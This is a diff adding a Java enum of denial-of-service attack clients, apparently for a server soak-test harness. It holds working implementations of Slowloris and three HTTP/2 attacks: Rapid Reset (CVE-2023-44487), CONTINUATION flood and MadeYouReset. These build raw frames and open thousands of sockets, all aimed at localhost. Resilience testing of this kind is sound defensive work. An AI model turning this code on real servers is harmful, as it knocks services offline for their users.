@@ -1,0 +1,153 @@
+package dev.adit.soak;
+
+import java.io.ByteArrayOutputStream;
+import java.io.IOException;
+import java.io.OutputStream;
+import java.net.Socket;
+import java.nio.ByteBuffer;
+import java.nio.charset.StandardCharsets;
+import java.time.Duration;
+import java.util.ArrayList;
+import java.util.concurrent.atomic.LongAdder;
+
+/** Clients that mean no good, each in its own way, for as long as they are let. */
+public enum Attack {
+    /** Five thousand heads that never come to their end, a byte at a time. */
+    SLOWLORIS {
+        @Override
+        void once(int port, LongAdder done) throws IOException, InterruptedException {
+            var sockets = new ArrayList<Socket>();
+            try {
+                while (!Thread.currentThread().isInterrupted()) {
+                    while (sockets.size() < SLOW_CLIENTS) {
+                        var socket = new Socket("127.0.0.1", port);
+                        socket.getOutputStream()
+                                .write("GET / HTTP/1.1\r\nHost: a.test\r\nX-A: ".getBytes(StandardCharsets.US_ASCII));
+                        sockets.add(socket);
+                        done.increment();
+                    }
+                    sockets.removeIf(socket -> !says(socket));
+                    Thread.sleep(Duration.ofMillis(500));
+                }
+            } finally {
+                for (var socket : sockets) {
+                    socket.close();
+                }
+            }
+        }
+    },
+    /** CVE-2023-44487: streams that are reset as soon as they are open. */
+    RAPID_RESET {
+        @Override
+        void once(int port, LongAdder done) throws IOException {
+            frames(port, done, (out, stream) -> {
+                write(out, HEADERS, END_STREAM | END_HEADERS, stream, HEAD);
+                write(out, RST_STREAM, 0, stream, new byte[] {0, 0, 0, 8});
+            });
+        }
+    },
+    /** CVE-2024-27316 and its like: a head that goes on and on. */
+    CONTINUATION_FLOOD {
+        @Override
+        void once(int port, LongAdder done) throws IOException {
+            frames(port, done, (out, stream) -> {
+                if (stream == 1) {
+                    write(out, HEADERS, END_STREAM, 1, HEAD);
+                }
+                write(out, CONTINUATION, 0, 1, FIELD);
+            });
+        }
+    },
+    /** CVE-2025-8671: streams that the server itself is made to reset. */
+    MADE_YOU_RESET {
+        @Override
+        void once(int port, LongAdder done) throws IOException {
+            frames(port, done, (out, stream) -> {
+                write(out, HEADERS, END_HEADERS, stream, HEAD);
+                write(out, WINDOW_UPDATE, 0, stream, new byte[4]);
+            });
+        }
+    };
+
+    private static final int SLOW_CLIENTS = 5_000;
+    private static final int HEADERS = 1;
+    private static final int RST_STREAM = 3;
+    private static final int SETTINGS = 4;
+    private static final int WINDOW_UPDATE = 8;
+    private static final int CONTINUATION = 9;
+    private static final int END_STREAM = 1;
+    private static final int END_HEADERS = 4;
+    // RFC 7541, appendix A: GET, http, /, and an authority as a literal.
+    private static final byte[] HEAD = head();
+    private static final byte[] FIELD = field();
+
+    abstract void once(int port, LongAdder done) throws IOException, InterruptedException;
+
+    /** One round of frames on a connection. */
+    @FunctionalInterface
+    private interface Round {
+        void send(OutputStream out, int stream) throws IOException;
+    }
+
+    private static void frames(int port, LongAdder done, Round round) throws IOException {
+        try (var socket = new Socket("127.0.0.1", port)) {
+            var drain = Thread.startVirtualThread(() -> {
+                try {
+                    socket.getInputStream().transferTo(OutputStream.nullOutputStream());
+                } catch (IOException _) {
+                    // the server has had enough
+                }
+            });
+            var out = socket.getOutputStream();
+            out.write("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n".getBytes(StandardCharsets.US_ASCII));
+            write(out, SETTINGS, 0, 0, new byte[0]);
+            for (var stream = 1; drain.isAlive() && !Thread.currentThread().isInterrupted(); stream += 2) {
+                var frames = new ByteArrayOutputStream();
+                round.send(frames, stream);
+                out.write(frames.toByteArray());
+                done.increment();
+            }
+        }
+    }
+
+    private static void write(OutputStream out, int type, int flags, int stream, byte[] payload) throws IOException {
+        out.write(ByteBuffer.allocate(9)
+                .put((byte) 0)
+                .putShort((short) payload.length)
+                .put((byte) type)
+                .put((byte) flags)
+                .putInt(stream)
+                .array());
+        out.write(payload);
+    }
+
+    private static byte[] head() {
+        var host = "a.test".getBytes(StandardCharsets.US_ASCII);
+        var head = ByteBuffer.allocate(5 + host.length);
+        return head.put(new byte[] {(byte) 0x82, (byte) 0x86, (byte) 0x84, 0x41, (byte) host.length})
+                .put(host)
+                .array();
+    }
+
+    private static byte[] field() {
+        var field = new byte[4 + 100];
+        field[1] = 1;
+        field[2] = 'a';
+        field[3] = 100;
+        java.util.Arrays.fill(field, 4, field.length, (byte) 'b');
+        return field;
+    }
+
+    private static boolean says(Socket socket) {
+        try {
+            socket.getOutputStream().write('a');
+            if (socket.getInputStream().available() > 0) {
+                socket.close(); // an answer: it has been given up
+                return false;
+            }
+            return true;
+        } catch (IOException _) {
+            return false;
+        }
+    }
+}
